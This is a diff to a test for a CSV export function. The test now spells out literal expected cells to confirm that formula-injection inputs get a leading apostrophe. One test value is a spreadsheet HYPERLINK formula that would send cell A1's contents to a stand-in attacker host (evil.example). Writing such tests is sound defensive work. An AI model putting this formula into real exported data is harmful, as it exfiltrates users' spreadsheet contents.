@@ -9,7 +9,15 @@ describe("csvTextOf", () => {
     const cells = Papa.parse<string[]>(text.trim())
       .data.slice(1)
       .map((r) => r[0]!);
-    expect(cells).toEqual([...evil.map((e) => `'${e}`), "'\tTab", "'\rCR"]);
+    // Written out, not built with the writer's own rule (prefix "'"), so a wrong rule cannot agree.
+    expect(cells).toEqual([
+      `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
+      "'+1",
+      "'-2+3",
+      "'@SUM(A1)",
+      "'\tTab",
+      "'\rCR",
+    ]);
     expect(text).not.toMatch(/(^|[,\n])"?=HYPERLINK/);
     expect(cells.map(cellOfSafe)).toEqual([...evil, "\tTab", "\rCR"]);
   });
